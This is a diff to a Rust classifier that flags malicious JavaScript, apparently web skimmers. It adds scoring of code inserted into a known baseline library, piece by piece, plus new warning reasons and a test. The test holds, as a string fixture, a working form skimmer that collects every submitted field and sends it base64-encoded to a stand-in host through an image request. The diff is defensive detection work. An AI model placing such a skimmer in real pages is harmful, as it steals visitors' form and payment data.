@@ -187,11 +187,17 @@ pub fn classify(
     let model = learned::shipped();
     // With a baseline, the added code is scored as one; a whole parsed script is scored
     // piece by piece and the riskiest piece speaks for it.
-    let (features, piece) = match (baseline, &a.outcome) {
-        (None, Ok(_)) => {
-            let best = local_features(a, ctx)
+    let by_pieces = match (baseline.map(|b| &b.outcome), &a.outcome) {
+        (None, Ok(_)) => Some(local_features(a, ctx)),
+        (Some(Ok(_)), Ok(_)) => baseline.map(|b| added_features(a, b, ctx)),
+        _ => None,
+    };
+    let scored_by_pieces = by_pieces.is_some();
+    let (features, piece) = match by_pieces {
+        Some(pieces) => {
+            let best = pieces
                 .into_iter()
-                .map(|(line, f)| (model.score(&learned::vector(&f)), line, f))
+                .map(|(line, f)| (model.risk(&learned::vector(&f)), line, f))
                 .max_by(|a, b| a.0.total_cmp(&b.0));
             match best {
                 Some((_, line, f)) => (f, Some(line)),
@@ -202,10 +208,10 @@ pub fn classify(
     };
     let hand = feature_vector(&features);
     let x = learned::vector(&features);
-    let risk = if baseline.is_none() && a.outcome.is_ok() && piece.is_none() {
+    let risk = if scored_by_pieces && piece.is_none() {
         0.0
     } else {
-        model.score(&x)
+        model.risk(&x)
     };
     let risk = (risk * 1000.0).round() / 1000.0;
     let malicious = risk >= MALICIOUS_THRESHOLD;
@@ -239,6 +245,9 @@ pub fn classify(
         categories.insert(0, strongest);
     }
     let mut reasons = reasons(&features);
+    if let (Some(what), true) = (learned::signature(&x), malicious) {
+        reasons.insert(0, format!("matches {what}"));
+    }
     if let (Some(line), true) = (piece, malicious) {
         reasons.insert(0, format!("the riskiest code starts at line {line}"));
     }
@@ -374,6 +383,79 @@ pub fn local_features(a: &Analysis<'_>, ctx: Context<'_>) -> Vec<(usize, Feature
         .map(|g| {
             let line = line_of(a.source, p.norm.units[g].span.start);
             (line, features_of(p, &[g], a.source, site.as_deref(), &[]))
+        })
+        .collect()
+}
+
+/// The features of each place where `a` adds code to `baseline` and that code could do harm
+/// (as [`local_features`] says), with the place's first line. A place is a run of adjacent
+/// wholly new units (siblings with no old unit between them) of at most
+/// [`LOCAL_MAX_TOKENS`] tokens together; a bigger new unit is split into the units inside
+/// it. An injection is written in one place; a new version's own changes are spread over
+/// the library, and their union does everything a skimmer does somewhere, as a whole
+/// library does. Hosts the baseline names are not new. Empty when a side did not parse.
+pub fn added_features(
+    a: &Analysis<'_>,
+    baseline: &Analysis<'_>,
+    ctx: Context<'_>,
+) -> Vec<(usize, Features)> {
+    let (Ok(p), Ok(old)) = (&a.outcome, &baseline.outcome) else {
+        return Vec::new();
+    };
+    let site = site_domain(ctx);
+    let baseline_hosts = old.hosts();
+    let flags = new_units(p, old);
+    let units = &p.norm.units;
+    let mut children: Vec<Vec<usize>> = vec![Vec::new(); units.len()];
+    let mut top = Vec::new();
+    for (i, u) in units.iter().enumerate() {
+        match u.parent {
+            Some(parent) if parent < units.len() => children[parent].push(i),
+            _ => top.push(i),
+        }
+    }
+    let mut places: Vec<Vec<usize>> = Vec::new();
+    let mut lists: Vec<(&[usize], bool)> = vec![(&top, false)];
+    for (i, c) in children.iter().enumerate() {
+        if !flags[i].reported {
+            lists.push((c, false));
+        }
+    }
+    while let Some((list, all_new)) = lists.pop() {
+        let mut place: Vec<usize> = Vec::new();
+        let mut tokens = 0;
+        for &i in list {
+            let size = units[i].end - units[i].start;
+            if !(all_new || flags[i].reported) {
+                places.extend((!place.is_empty()).then(|| std::mem::take(&mut place)));
+                tokens = 0;
+                continue;
+            }
+            if size > LOCAL_MAX_TOKENS && !children[i].is_empty() {
+                places.extend((!place.is_empty()).then(|| std::mem::take(&mut place)));
+                tokens = 0;
+                lists.push((&children[i], true));
+                continue;
+            }
+            if tokens + size > LOCAL_MAX_TOKENS && !place.is_empty() {
+                places.push(std::mem::take(&mut place));
+                tokens = 0;
+            }
+            place.push(i);
+            tokens += size;
+        }
+        places.extend((!place.is_empty()).then_some(place));
+    }
+    places.sort_unstable();
+    places
+        .into_iter()
+        .filter(|place| place.iter().any(|&g| units[g].signals & HARMFUL != 0))
+        .map(|place| {
+            let line = line_of(a.source, units[place[0]].span.start);
+            (
+                line,
+                features_of(p, &place, a.source, site.as_deref(), &baseline_hosts),
+            )
         })
         .collect()
 }
@@ -619,7 +701,10 @@ fn reasons(f: &Features) -> Vec<String> {
         WORKER,
         REDIRECT,
         POPUP,
+        FOCUS_SHIFT,
         VISITOR_CHECK,
+        STORAGE_WRITE,
+        FAKE_FORM,
     ] {
         if f.signals & bit != 0 {
             r.push(signals::describe(bit).to_owned());
@@ -723,6 +808,53 @@ mod tests {
         let pieces = local_features(&a, ctx);
         assert!(!pieces.is_empty());
         assert!(pieces.iter().all(|(_, f)| f.tokens <= LOCAL_MAX_TOKENS));
+    }
+
+    /// With a baseline, added code is scored place by place: changes spread over a library
+    /// (a decoder in one function, a value read in another, a request in a third) do not
+    /// add up to a skimmer, while a skimmer added in one place is caught and named.
+    #[test]
+    fn added_code_is_scored_place_by_place() {
+        let mut old = String::from("var lib = (function () {\n");
+        for i in 0..12 {
+            old.push_str(&format!(
+                "  function f{i}(a) {{ var out = []; for (var j = 0; j < a.length; j++) {{ out.push(a[j] + {i}); }} return out; }}\n"
+            ));
+        }
+        let names: Vec<String> = (0..12).map(|i| format!("f{i}: f{i}")).collect();
+        old.push_str(&format!("  return {{ {} }};\n}})();\n", names.join(", ")));
+        let spread = old
+            .replace(
+                "function f2(a) {",
+                "function f2(a) { var t = String.fromCharCode(a[0]);",
+            )
+            .replace(
+                "function f6(a) {",
+                "function f6(a) { var v = document.getElementById('q').value; a.push(encodeURIComponent(v));",
+            )
+            .replace(
+                "function f10(a) {",
+                "function f10(a) { var x = new XMLHttpRequest(); x.open('GET', '/api/items'); x.send();",
+            );
+        let ctx = Context {
+            site: Some("www.shop.example"),
+        };
+        let (base, changed) = (analyse(&old), analyse(&spread));
+        let places = added_features(&changed, &base, ctx);
+        assert!(!places.is_empty());
+        assert!(places.iter().all(|(_, f)| f.flow.is_none()), "{places:#?}");
+        let v = classify("new.js", &changed, Some(&base), ctx);
+        assert!(!v.malicious, "{v:#?}");
+        let skimmer = "document.addEventListener('submit', function (e) {\n  var f = e.target, d = {};\n  for (var i = 0; i < f.elements.length; i++) d[f.elements[i].name] = f.elements[i].value;\n  new Image().src = 'https://pixel-stats.invalid/p.gif?d=' + encodeURIComponent(btoa(JSON.stringify(d)));\n});\n";
+        let injected = old.replace("  return { f0", &format!("{skimmer}  return {{ f0"));
+        let v = classify("new.js", &analyse(&injected), Some(&base), ctx);
+        assert!(v.malicious, "{v:#?}");
+        assert!(v.reasons[0].starts_with("the riskiest code starts at line"));
+        assert!(
+            v.reasons[1].starts_with("matches an image request"),
+            "{:?}",
+            v.reasons
+        );
     }
 
     #[test]
